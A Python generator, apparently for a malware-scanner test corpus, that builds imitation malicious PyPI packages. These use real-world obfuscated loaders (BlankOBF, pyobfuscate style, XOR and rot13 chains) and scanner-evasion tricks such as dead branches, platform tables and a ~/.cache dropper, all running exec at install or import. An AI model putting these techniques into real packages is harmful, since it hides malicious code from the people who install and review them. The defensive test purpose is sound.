"""Imitations of obfuscator loaders seen in real PyPI malware (pyobfuscate.com's seeded random
division, BlankOBF's eval("eval") loader, the magic/love/god/destiny rot13 split, codecs
getencoder). Text generation only: nothing here is executed. `random.Random` is used only to
compute the numbers the loader would divide by; no payload is run."""
import random

from generate import P, b, b64, q, imitation, base64, bz2, codecs, zlib


def write_for_later(pkg):
    """Lines that write `_hook` to ~/.cache/<pkg>_boot.py, for a later run (never exec'd here)."""
    return (f"_path = os.path.join(os.path.expanduser('~'), '.cache', '{pkg}_boot.py')\n"
            "try:\n    with open(_path, 'wb') as fh:\n        fh.write(_hook)\n"
            "except OSError:\n    pass\n")


def octhex(data):
    """Alternate \\x and octal escapes, as BlankOBF spells names."""
    return "".join(("\\%o" % c) if i % 2 else ("\\x%02x" % c) for i, c in enumerate(b(data)))


def define(setup_with, init_with, rot13):
    # pyobfuscate.com style: code points times random.randint(1, N) after random.seed(S); S is
    # hidden as base64(rot13(base64(zlib(digits)))); the division runs in an exec'd string.
    n = "color-palette-kit"
    seed, span = 731_902_448_615_207, 100000
    rng = random.Random(seed)
    ints = " ".join(str(ord(ch) * rng.randint(1, span)) for ch in P("curl"))
    hidden = b64(zlib.compress(rot13(b64(str(seed))).encode()))
    body = (
        "import random ,base64,codecs,zlib;obf=\"\"\n\n"
        "watermark = dict(map(lambda k,v:(k,v),['(https://obfuscator.example.invalid)*(decrypt)'],"
        "['decoy text, not a payload']))\n\n"
        "_=lambda s,c_int=%d:(_r:=''.join(chr(int(int(s.split()[i])/random.randint(1,c_int)))"
        "for i in range(len(s.split()))))\n"
        "__=%s\n"
        "b=%s\n"
        "exec(\"random.seed(eval(base64.b64decode(codecs.decode(zlib.decompress("
        "base64.b64decode(b)).decode(),'rot13').encode())));exec(_(__));random.seed(1)\")\n"
    ) % (span, q(ints), q(hidden))
    imitation("pyobfuscate-seeded-random",
              "pyobfuscate.com style: text = ints / random.randint after random.seed(<hidden seed>), "
              "exec'd in setup.py", ["exec-dynamic-code"], {
                  "setup.py": setup_with(n, body)},
              payload="curl", chain=["seeded-random"], name=n)

    # BlankOBF style: eval("eval"), eval("compile"), names resolved by eval(compile("...")),
    # four tagged chunks (uu, rot13, hex, base85+hex) joined, then base64 -> uu -> bz2 -> XOR.
    n = "roblox-stats-lite"
    key = " Kx3vQ"
    xored = "".join(chr(ord(c) ^ ord(key[-1])) for c in P("wget")).encode("latin-1")
    blob = base64.b64encode(codecs.encode(bz2.compress(xored), "uu")).decode()
    k = len(blob) // 4
    parts = [blob[:k], blob[k:2 * k], blob[2 * k:3 * k], blob[3 * k:]]
    chunks = [codecs.encode(parts[0].encode(), "uu") + b"u",
              (rot13(parts[1]) + "r").encode(),
              codecs.encode(parts[2].encode(), "hex") + b"h",
              base64.b85encode(codecs.encode(parts[3].encode(), "hex")) + b"x"]
    E, C = "_____", "_______"
    ev = lambda src: f'{E}({C}("{src}","",{E}.__name__))'
    names = ["______________", "________________", "__________________", "_________________"]
    lines = [
        "# Obfuscated loader (imitation for ferret's corpus)",
        f'{E}=eval("{octhex("eval")}")',
        f'{C}={E}("{octhex("compile")}")',
        f"______,____=({ev(chr(95) * 2 + 'import__(' + repr('base64') + ')')},"
        f"{ev(chr(95) * 2 + 'import__(' + repr('codecs') + ')')})",
        f"____________________={E}(\"'{key.strip()}'\")",
        f"________,_________,__________,___________=({ev('exec')},{ev('str.encode')},"
        f"{ev('isinstance')},{ev('bytes')})",
        "def ___________________(__________, ___________):",
        "    __________=__________.decode()",
        "    _________=''",
        "    if not ___________[False] == ' ':",
        "        ___________=' ' + ___________",
        f"    for _ in range({E}('len(__________)')):",
        f"        _________ += {E}('chr(ord(__________[_])^ord(___________[(len(___________) - True*2) + True]))')",
        "    return (_________, ___________)",
        "def ____________(_____________):",
        f"    if _____________[-True] != {ev(chr(39) + 'c___6s5___6ardv8' + chr(39) + '[-True*4]')}:",
        "        _____________ = _________(_____________)",
        "    if not __________(_____________, ___________):",
        f"        _____________ = {ev('____.decode(_____________[:-True],' + chr(39) + 'rot13' + chr(39) + ')')}",
        "    else:",
        f"        if _____________[-True] == {ev('b' + chr(39) + 'f5sfsdfauf85' + chr(39) + '[-True*4]')}:",
        f"            _____________ = {ev('____.decode(_____________[:-True],' + chr(39) + 'uu' + chr(39) + ')')}",
        f"        elif _____________[-True] == {ev('b' + chr(39) + 'd5sfs1dffhsd8' + chr(39) + '[-True*4]')}:",
        f"            _____________ = {ev('____.decode(_____________[:-True],' + chr(39) + 'hex' + chr(39) + ')')}",
        "        else:",
        f"            _____________ = {ev('______.b85decode(_____________[:-True])')}",
        f"            _____________ = {ev('____.decode(_____________, ' + chr(39) + 'hex' + chr(39) + ')')}",
        f"        _____________ = {ev('___________.decode(_____________)')}",
        "    return _____________",
    ]
    for nm, chunk in zip(names, chunks):
        esc = "".join(("\\\\%o" % c) if i % 2 else ("\\\\x%02x" % c) for i, c in enumerate(chunk))
        lines.append(f"{nm}={ev('___________.decode(b' + chr(39) + esc + chr(39) + ')')}")
    lines.append(f"_______________={ev('str.join(' + chr(39) * 2 + ', [____________(x) for x in [' + ','.join(names) + ']])')}")
    lines.append("________(___________________(____.decode(____.decode(______.b64decode("
                 f"_________(_______________)),'uu'),'bz2'),____________________)[{E}('False')])")
    imitation("blankobf-eval-loader",
              "BlankOBF style: eval(\"eval\") aliases, tagged uu/rot13/hex/base85 chunks, "
              "base64 -> uu -> bz2 -> XOR, exec at import",
              ["exec-decoded-payload"], {
                  "roblox_stats_lite/__init__.py": "\n".join(lines) + "\n"},
              payload="wget", chain=["base85", "hex", "base64", "uu", "bz2", "xor"], name=n)

    # base64 split in four module strings, two of them rot13'd, joined by eval() of constant
    # names and calls: trust = eval('magic') + eval('codecs.decode(love, joy)') + ...
    n = "discord-bot-kit"
    enc = b64(P("hook"))
    k = len(enc) // 4
    a, bb, c, d = enc[:k], enc[k:2 * k], enc[2 * k:3 * k], enc[3 * k:]
    body = (f"import base64, codecs\nmagic = {q(a)}\nlove = {q(rot13(bb))}\ngod = {q(c)}\n"
            f"destiny = {q(rot13(d))}\njoy = '\\x72\\x6f\\x74\\x31\\x33'\n"
            "trust = eval('\\x6d\\x61\\x67\\x69\\x63') + eval('codecs.decode(love, joy)') + "
            "eval('god') + eval('codecs.decode(destiny, joy)')\n"
            "eval(compile(base64.b64decode(eval('\\x74\\x72\\x75\\x73\\x74')),'<string>','exec'))\n")
    imitation("eval-constant-rot13-split",
              "base64 split into magic/love/god/destiny strings (two rot13'd), joined through "
              "eval() of constant expressions, at import", ["exec-decoded-payload"], {
                  "discord_bot_kit/__init__.py": init_with(body)},
              payload="hook", chain=["rot13", "base64"], name=n)

    # codecs.getencoder('utf-8')(text)[0] feeding base64 and zlib, in setup.py.
    n = "netutil-probe"
    blob = b64(zlib.compress(b(P("env"))))
    imitation("codecs-getencoder",
              "exec(zlib(base64(codecs.getencoder('utf-8')(<literal>)[0]))) in setup.py",
              ["exec-decoded-payload"], {
                  "setup.py": setup_with(n, "exec(__import__('zlib').decompress(__import__('base64')"
                                            f".b64decode(__import__('codecs').getencoder('utf-8')({q(blob)})[0])))\n")},
              payload="env", chain=["base64", "zlib"], name=n)

    # A list filled by append/extend and joined: the exec'd text is the list's final content
    # (a scanner that ignores in-place changes sees exec('') and passes the file).
    n = "logfmt-extras"
    text = P("curl")
    pieces = [text[i:i + 7] for i in range(0, len(text), 7)]
    body = "_parts = []\n" + "".join(f"_parts.append({q(p)})\n" for p in pieces[:-2]) + \
        f"_parts.extend([{q(pieces[-2])}, {q(pieces[-1])}])\nexec(''.join(_parts))\n"
    imitation("list-append-join", "exec(''.join(parts)) of a list filled by append() and "
              "extend(), at import", ["exec-obfuscated-string"], {
                  "logfmt_extras/__init__.py": init_with(body)},
              payload="curl", name=n)

    # The payload text is set as a module global by a function called at import; the
    # module-level value before the call is an empty string.
    n = "cachectl-lite"
    body = (f"_src = ''\n\ndef _prime(part):\n    global _src\n    _src = {q(P('wget'))} + part\n\n"
            "_prime('')\nexec(_src)\n")
    imitation("global-set-by-function", "exec() of a module global that a function called at "
              "import sets (`global`), at import", [], {
                  "cachectl_lite/__init__.py": init_with(body)},
              payload="wget", name=n)

    # A while loop with a counter XOR-decodes the payload one character at a time.
    n = "tzdata-patch"
    key = 0x2A
    enc = "".join("\\x%02x" % (ord(ch) ^ key) for ch in P("chrome"))
    body = (f"_d = '{enc}'\n_s = ''\n_i = 0\nwhile _i < len(_d):\n"
            f"    _s += chr(ord(_d[_i]) ^ {key})\n    _i += 1\nexec(_s)\n")
    imitation("while-xor-loop", "exec() of text XOR-decoded by a while loop with a counter, "
              "at import", ["exec-obfuscated-string"], {
                  "tzdata_patch/__init__.py": init_with(body)},
              payload="chrome", name=n)

    # A list held in a dict, filled by an XOR loop that skips padding with `continue` and
    # stops at an end marker with `break`: the exec'd text is the inner list's final content
    # (a scanner that follows only names sees the empty list from before the loop).
    n = "confkit-loader"
    key = 0x15
    codes = []
    for i, ch in enumerate(P("aws")):
        codes.append(ord(ch) ^ key)
        if i % 5 == 4:
            codes.append(0)
    codes += [255, 1, 2, 3]
    body = (f"_state = {{'buf': []}}\nfor _c in {codes}:\n    if _c == 0:\n        continue\n"
            f"    if _c == 255:\n        break\n    _state['buf'].append(chr(_c ^ {key}))\n"
            "exec(''.join(_state['buf']))\n")
    imitation("dict-held-list-loop", "exec() of a list held in a dict, filled by an XOR loop "
              "with continue and break, at import", ["exec-obfuscated-string"], {
                  "confkit_loader/__init__.py": init_with(body)},
              payload="aws", name=n)

    # The payload is set as a module global through globals()[...], over an empty text bound
    # before: a scanner that follows only assignments sees exec('').
    n = "envpath-tools"
    key = 0x33
    codes = [ord(ch) ^ key for ch in P("ssh")]
    body = (f"_cfg = ''\n_k = 'cf' + 'g'\nglobals()['_' + _k] = ''.join(chr(c ^ {key}) for c in "
            f"{codes})\nexec(_cfg)\n")
    imitation("globals-setitem", "exec() of a module global set through globals()[name] over "
              "an empty text bound before, at import", ["exec-obfuscated-string"], {
                  "envpath_tools/__init__.py": init_with(body)},
              payload="ssh", name=n)

    # The XOR-built payload's name is rebound to an empty text on a branch that never runs
    # (no such platform): a scanner that takes the last binding sees exec('').
    n = "platform-shim"
    key = 0x21
    codes = [ord(ch) ^ key for ch in P("wget")]
    body = (f"import sys\n_c = ''.join(chr(c ^ {key}) for c in {codes})\n"
            "if sys.platform == 'plan9':\n    _c = ''\nexec(_c)\n")
    imitation("dead-branch-overwrite", "exec() of an XOR-built payload whose name is rebound to "
              "an empty text on a branch that never runs, at import", [], {
                  "platform_shim/__init__.py": init_with(body)},
              payload="wget", name=n)

    # A plain code string exec'd through a name that a branch for a platform that does not
    # exist rebinds to an empty text: a scanner that takes the last binding sees exec('').
    n = "osquirks"
    body = (f"import sys\n_boot = {q(P('env'))}\nif sys.platform.startswith('plan9'):\n"
            "    _boot = ''\nexec(_boot)\n")
    imitation("dead-branch-plain-exec", "exec() of a plain code string whose name a branch "
              "that never runs rebinds to an empty text, at import", [], {
                  "osquirks/__init__.py": init_with(body)},
              payload="env", name=n)

    # Base64-decoded Python written to a file for later, never exec'd here, from a name a
    # branch for a platform that does not exist empties: a scanner that takes the last
    # binding decodes nothing, and with no exec in sight has no other reason to look.
    n = "tidyenv"
    body = (f"import base64\nimport os\nimport sys\n_cache = {q(b64(P('env')))}\n"
            "if sys.platform.startswith('plan9'):\n    _cache = ''\n"
            "_hook = base64.b64decode(_cache)\n" + write_for_later("tidyenv"))
    imitation("dead-branch-decoded-dropper", "base64-decoded Python written to a file (no "
              "exec) from a name a branch that never runs rebinds to an empty text, at import",
              [], {"tidyenv/__init__.py": init_with(body)}, payload="env", name=n)

    # The payload is picked from a table by the platform's name, which no static reading can
    # know, decoded and written out for later: a scanner that takes the table's default sees
    # an empty text decoded and nothing else.
    n = "platcfg"
    body = (f"import base64\nimport os\nimport sys\n_stages = {{'linux': {q(b64(P('ssh')))}, "
            f"'darwin': {q(b64(P('ssh')))}}}\n_hook = base64.b64decode(_stages.get(sys.platform, ''))\n"
            + write_for_later("platcfg"))
    imitation("platform-table-dropper", "base64-decoded Python picked from a table by "
              "sys.platform (default empty) and written to a file, no exec, at import", [],
              {"platcfg/__init__.py": init_with(body)}, payload="ssh", name=n)

    # A loop that never ends as a static reading folds it (`want` never changes) before an
    # XOR-built payload: a scanner that folds loops pass by pass spends its budget on the
    # spinner and no longer folds the decoding loop after it.
    n = "streamkit-lite"
    key = 0x05
    codes = "".join(chr(ord(ch) ^ key) for ch in P("wget"))
    body = ("def _drain(size=None):\n    if size is not None and size <= 0:\n        size = None\n"
            "    want = size is None\n    while want:\n        want = size is None\n\n_drain(0)\n"
            f"_k = {q(codes)}\n_c = ''\nfor ch in _k:\n    _c += chr(ord(ch) ^ {key})\nexec(_c)\n")
    imitation("spinning-loop-before-decoder", "a loop that never ends as folded, then exec() of "
              "an XOR-built payload, at import", [], {
                  "streamkit_lite/__init__.py": init_with(body)},
              payload="wget", name=n)
